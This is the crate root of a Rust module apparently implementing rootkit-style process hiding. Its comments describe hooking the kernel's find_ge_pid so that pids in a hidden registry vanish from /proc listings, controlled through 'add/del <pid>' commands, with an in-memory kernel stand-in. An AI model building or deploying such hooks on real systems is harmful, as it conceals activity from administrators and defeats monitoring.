//! # hideproc-module: Default implementations
//!
//! Everything that runs on top of the `hideproc-core` host surface: the
//! hidden registry, the replacement enumeration function, the interception
//! engine, the control channel and the compositor that wires them up.
//!
//! ## Components
//!
//! | Piece             | Type               | Role                                  |
//! |-------------------|--------------------|---------------------------------------|
//! | Registry          | `HiddenRegistry`   | mutex-guarded list of hidden pids     |
//! | Filter            | `EnumerationFilter`| `find_ge_pid` replacement, skips hidden |
//! | Engine            | `HookDescriptor`   | resolve, filter, register, remove     |
//! | Self-call guard   | `SelfCallGuard`    | `Reentry` (default) or `ModuleRange`  |
//! | Control channel   | `ControlChannel`   | `add <pid>` / `del <pid>` / listing   |
//! | Compositor        | `HideProc`         | init on build, exit on drop           |
//! | Host              | `MemHost`          | in-memory kernel stand-in             |
//!
//! ```text
//!  operator ──write──▶ ControlChannel ──▶ HiddenRegistry ◀── is_hidden ──┐
//!                                                                       │
//!  /proc walker ──find_ge_pid──▶ [hook thunk] ──▶ EnumerationFilter ─────┘
//!                                                    │ (self call)
//!                                                    ▼
//!                                             real find_ge_pid
//! ```

pub mod registry;
pub mod guard;
pub mod hook;
pub mod filter;
pub mod protocol;
pub mod channel;
pub mod config;
pub mod instance;
pub mod mem_host;

pub use channel::{ChannelFile, ControlChannel};
pub use config::HideConfig;
pub use filter::EnumerationFilter;
pub use guard::{GuardKind, SelfCallGuard};
pub use hook::{HookDescriptor, OriginalSlot};
pub use instance::{DefaultHideProc, HideProc, HideProcBuilder};
pub use mem_host::{HostOp, MemHost};
pub use registry::HiddenRegistry;
